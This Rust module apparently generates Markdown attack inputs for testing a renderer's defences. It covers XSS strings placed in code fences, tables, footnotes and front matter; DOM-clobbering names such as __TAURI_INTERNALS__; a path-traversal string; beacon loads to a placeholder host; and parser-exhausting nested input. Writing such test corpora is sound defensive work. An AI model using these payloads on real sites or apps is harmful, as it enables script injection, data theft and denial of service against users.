//! What Markdown itself offers an attacker: code with hostile languages, headings that would name globals, tables, notes,
//! attributes, and documents that cost more to read than to write.

use super::payload::{Draft, text};

pub(super) fn all() -> Vec<Draft> {
    [
        text("code block", fences()),
        text("name that clobbers", names()),
        text("table, note, task", STRUCTURES),
        text("deep and wide", heavy()),
        text("unclosed", UNCLOSED),
    ]
    .concat()
}

/// What follows the fence, which a page may put into a class, an attribute or a renderer's name.
const LANGUAGES: [&str; 20] = [
    "html",
    "js onload={js}",
    "\"><img src=x onerror={js}>",
    "' onmouseover='{js}",
    "<script>{js}</script>",
    "svg",
    "mermaid",
    "math",
    "vega",
    "dot",
    "iframe",
    "html+run",
    "{=html}",
    "{.js onload={js}}",
    "jsx {live: true}",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "../../../etc/passwd",
    "\u{202e}sj",
];

fn fences() -> Vec<String> {
    let body =
        "<img src=http://{http}/{n}/code.png onerror={js}>\n</code></pre><script>{js}</script>";
    let mut all: Vec<String> = LANGUAGES
        .iter()
        .map(|language| format!("```{language}\n{body}\n```"))
        .collect();
    all.extend([
        format!("~~~{{js}}\n{body}\n~~~"),
        "    <script>{js}</script>".to_owned(),
        "`` ` <img src=x onerror={js}> ``".to_owned(),
        "`</code><img src=x onerror={js}>`".to_owned(),
        "```mermaid\ngraph TD; A[\"<img src=x onerror={js}>\"]-->B; click A href \"javascript:{js}\"\n```".to_owned(),
        "```js\n/* </script><script>{js}</script> */ `${{js}}`\n```".to_owned(),
    ]);
    all
}

/// Names that a page's own scripts look up, as headings, labels and anchors.
fn names() -> Vec<String> {
    const NAMES: [&str; 14] = [
        "__proto__",
        "constructor",
        "prototype",
        "document",
        "window",
        "location",
        "backend",
        "__TAURI_INTERNALS__",
        "ipc",
        "fetch",
        "getElementById",
        "toString",
        "trustedTypes",
        "breached",
    ];
    let mut all: Vec<String> = NAMES
        .iter()
        .map(|name| format!("# {name} {{#{name} name={name}}}\n\n[{name}](#{name})\n\n[^{name}]\n\n[^{name}]: {name}"))
        .collect();
    all.extend(
        [
            "<a id=breached name=breached href=http://{http}/{n}>a</a>",
            "<form id=document name=document><input id=location name=location></form>",
            "<img name=__TAURI_INTERNALS__ id=__TAURI_INTERNALS__>",
            "<a id=ipc><a id=ipc name=postMessage href=x>",
            "<iframe name=backend srcdoc=x></iframe>",
            "<svg id=fetch></svg>",
        ]
        .map(str::to_owned),
    );
    all
}

const STRUCTURES: [&str; 20] = [
    "| <img src=x onerror={js}> | b |\n|:--|--:|\n| `<svg onload={js}>` | \\| <script>{js}</script> |",
    "| a |\n|---|\n| [touch](javascript:{js}) |\n| <a href=javascript:{js}>touch</a> |",
    "| a | b |\n|---|\n| one |\n| one | two | three | <script>{js}</script> |",
    "Note[^<script>{js}</script>]\n\n[^<script>{js}</script>]: text",
    "Note[^1].\n\n[^1]: <img src=x onerror={js}>\n    <script>{js}</script>",
    "Note[^1][^1][^2].\n\n[^1]: [^1]\n[^2]: [^1] [touch](javascript:{js})",
    "- [ ] <input type=checkbox onchange={js} autofocus onfocus={js}>\n- [x] <b onclick={js}>done</b>",
    "Term <b onclick={js}>\n:   <script>{js}</script>",
    "*[HTML]: <script>{js}</script>\n\nHTML",
    ":smile: :<script>{js}</script>: :\"onerror={js}:",
    "text {onclick={js}}\n\n{: onclick=\"{js}\" }",
    "::: <script>{js}</script>\n<img src=x onerror={js}>\n:::",
    "> [!NOTE]\n> <script>{js}</script>",
    "---\ntitle: <script>{js}</script>\nheader: http://{http}/{n}\n---\n\ntext",
    "+++\nx = '<script>{js}</script>'\n+++\n\ntext",
    "[[<script>{js}</script>|javascript:{js}]] [[http://{http}/{n}]]",
    "![[http://{http}/{n}/embedded.png]] !include http://{http}/{n}",
    "@<script>{js}</script> #<script>{js}</script> GH-{n}",
    "<details><summary>open me</summary>\n\n[touch](javascript:{js})\n\n</details>",
    "==<img src=x onerror={js}>== ^<svg onload={js}>^ ~<svg onload={js}>~",
];

fn heavy() -> Vec<String> {
    let nested =
        |open: &str, times: usize| format!("{}<script>{{js}}</script>", open.repeat(times));
    let row = "| <b onclick={js}>x</b> ".repeat(24);
    let bar = "|---".repeat(24);
    vec![
        nested("> ", 400),
        nested("- ", 300),
        nested("[", 1500),
        nested("*a ", 900),
        nested("<div>", 600),
        nested("![", 700),
        format!("{}{}", "[a](".repeat(300), ")".repeat(300)),
        format!("{row}|\n{bar}|\n{}", format!("{row}|\n").repeat(40)),
        format!("`{}<script>{{js}}</script>", "`a ".repeat(400)),
        format!("{}<img src=x onerror={{js}}>", "&amp;".repeat(900)),
        format!("[a]: {}\n\n{}", "x".repeat(3000), "[a] ".repeat(150)),
        format!("<{}>{{js}}</script>", "script ".repeat(400)),
    ]
}

const UNCLOSED: [&str; 14] = [
    "```html\n<script>{js}</script>",
    "<!-- <script>{js}</script>",
    "<![CDATA[ <script>{js}</script>",
    "<? <script>{js}</script>",
    "<div title=\"<script>{js}</script>",
    "<img src=\"http://{http}/{n}/unclosed",
    "<img src='http://{http}/{n}/unclosed?",
    "[touch](javascript:{js}",
    "[touch](<javascript:{js}",
    "[touch][there\n\n[there]: javascript:{js}",
    "<a href=\"javascript:{js}",
    "<textarea><script>{js}</script>",
    "<title><script>{js}</script>",
    "<noscript><script>{js}</script>",
];
